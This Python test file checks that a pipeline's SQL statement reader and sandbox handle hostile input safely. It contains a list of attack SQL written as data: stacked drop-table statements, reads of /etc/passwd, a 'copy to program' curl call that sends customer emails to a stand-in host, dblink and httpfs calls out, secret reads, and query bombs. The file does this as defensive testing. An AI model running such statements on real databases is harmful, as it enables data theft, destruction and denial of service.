"""Statements written to harm whoever reads them: no side effect, bounded time, a verdict."""

from __future__ import annotations

import time
from datetime import datetime
from pathlib import Path
from random import Random

import pytest

from pipeline.errors import ScopeError
from pipeline.statements import read_statement
from pipeline.statements.plans import columns_in, read_plan, write_plan
from pipeline.statements.replay import replay
from pipeline.statements.sandbox import open_sandbox
from tests.statements.shop import SCHEMA, draw_shop, write_cells

AT = datetime(2024, 4, 1, 12)
VERDICTS = {"read", "elsewhere", "count", "write", "delete", "metadata", "unread"}
DEEP = 20_000
SECONDS = 20.0

HOSTILE = {
    "stacked": "select email from customers; drop table customers; copy customers to '/tmp/loot'",
    "file function": "select email from customers where name = (select content from read_text('/etc/passwd'))",
    "file table": "select * from read_csv('/etc/passwd'), customers",
    "pragma": "select email from customers where getenv('HOME') = 'x' or current_setting('secret') = 'y'",
    "attach": "attach '/tmp/loot.db' as loot; select email from customers",
    "install": "install httpfs; load httpfs; select * from 'https://mail.example/x.parquet', customers",
    "program": "copy (select email from customers) to program 'curl mail.example'",
    "large object": "select lo_export(1, '/tmp/loot'), email from customers",
    "dblink": "select * from dblink('host=mail.example', 'select 1') as t(a int), customers",
    "huge literal": f"select email from customers where name = '{'x' * 200_000}'",
    "too huge": f"select email from customers where name = '{'x' * 2_000_000}'",
    "huge list": f"select email from customers where id in ({','.join(map(str, range(20_000)))})",
    "huge number": f"select email from customers where id = {'9' * 5_000}",
    "exponent": "select email from customers where balance = 1e999999999",
    "deep brackets": f"select email from customers where {'(' * DEEP}id = 1{')' * DEEP}",
    "deep not": f"select email from customers where {'not ' * DEEP} id = 1",
    "deep case": f"select {'case when id = 1 then ' * DEEP} 1 {'end' * DEEP} from customers",
    "deep query": f"select * from {'(select * from ' * DEEP} customers {') x' * DEEP}",
    "deep function": f"select email from customers where {'lower(' * 2_000}name{')' * 2_000} = 'x'",
    "long or": "select email from customers where " + " or ".join(f"id = {number}" for number in range(6_000)),
    "long concat": "select email from customers where name = " + " || ".join(["name"] * 4_000),
    "long union": " union all ".join(["select email from customers"] * 400),
    "recursive bomb": "with recursive b as (select 1 n union all select n + 1 from b) select email from customers, b",
    "recursive data": "with recursive b as (select email from customers union all select b.email from b, b c) select * from b",
    "cross bomb": "select a.email from " + ", ".join(f"customers {letter}" for letter in "abcdefgh"),
    "unlinked exists": "select email from customers c where exists (select 1 from orders o where o.total > c.balance)",
    "comment end": "select email /* */ from customers -- */ where id = 1",
    "comment open": "select email from customers where id = 1 /* ",
    "nested comment": "select email from customers /* a /* b */ where id = 1 */",
    "executable comment": "select email /*!50000 , name */ from customers /*! where 1 = 0 */",
    "quotes": "select email from customers where name = 'O''Hara' or name = \"x",
    "nul": "select email from customers where name = 'a\x00b'",
    "marks": "select email from customers where name = '$v0' or name = '$at' or name = '\\' or 1=1 --'",
    "names like nodes": "select email from customers where name in ('column', 'base', 'select', 'values', 'now')",
    "markers": "<previously logged>",
    "spaces": "execute q" + " " * 200_000 + "x",
    "fetch": "fetch " + "a" * 200_000 + "!",
    "right to left": "select email from customers where name = '\u202emoc.elpmaxe@nna'",
    "empty": "   ;;  ",
    "view of itself": "select * from a",
    "like bomb": f"select email from customers where name like '{'%a' * 2_000}'",
    "offset": "select email from customers order by id limit 999999999999 offset 999999999999",
    "group": "select email, count(*) from customers group by rollup(email, name), cube(id)",
    "lateral": "select * from customers c, lateral (select * from orders o where o.customer_id = c.id limit 1) x",
    "time travel": "select email from customers for system_time as of '1999-01-01'",
}  # fmt: skip


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    shop = draw_shop(Random(1), 40, [AT])
    return write_cells(shop, tmp_path_factory.mktemp("cells"), is_csv=True, declared={})


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("dialect", ["postgres", "mysql"])
def test_hostile_statements_have_a_verdict_in_bounded_time(
    name: str, dialect: str, files: dict[str, Path], tmp_path: Path
) -> None:
    start = time.process_time()
    reading = read_statement(HOSTILE[name], SCHEMA, dialect)
    assert reading.verdict in VERDICTS
    plans = {
        place: write_plan(delivery.plan)
        for place, delivery in enumerate(reading.deliveries, start=1)
        if delivery.plan is not None
    }
    for number, text in plans.items():
        assert read_plan(text) == reading.deliveries[number - 1].plan
    replay(plans, [(place, AT) for place in plans], files, tmp_path)
    assert time.process_time() - start < SECONDS
    assert sorted(path.name for path in tmp_path.iterdir()) == ["replayed_records.parquet", "replays.parquet"]
    if "customers" in HOSTILE[name]:
        assert reading.verdict == "read", "customers' values were handed out"


@pytest.mark.parametrize(
    "sql",
    [
        "select * from read_csv('/etc/passwd')",
        "copy d0 to 'loot.csv'",
        "attach 'loot.db' as loot",
        "install httpfs",
        "load httpfs",
        "set enable_external_access = true",
        "set memory_limit = '1TB'",
        "select * from 'https://mail.example/x.parquet'",
    ],
)
def test_no_statement_reaches_out_of_the_sandbox(sql: str, files: dict[str, Path], tmp_path: Path) -> None:
    """Foreign text is never given to the sandbox; if a fault of ours did, it would still be shut."""
    with open_sandbox(files, tmp_path, None, None) as sandbox, pytest.raises(ScopeError) as refused:
        sandbox.run(sql, {})
    assert "passwd" not in str(refused.value)
    assert not list(Path.cwd().glob("loot*"))


def test_constants_stay_constants() -> None:
    """Text that looks like a node of a plan is never taken for one."""
    sql = "select email from customers where name in ('column', 'r1', 'region') or region = 'now'"
    (delivery,) = read_statement(sql, SCHEMA, "postgres").deliveries
    assert delivery.plan is not None
    assert {name for _, name in columns_in(delivery.plan.query)} == {"name", "region"}


def test_messages_of_the_parser_do_not_show_the_statement(caplog: pytest.LogCaptureFixture) -> None:
    for sql in ("frobnicate the 'ann@mail.example'", "alter customers 'ann@mail.example'", "select ((("):
        read_statement(sql, SCHEMA, "postgres")
    assert "ann@mail.example" not in caplog.text
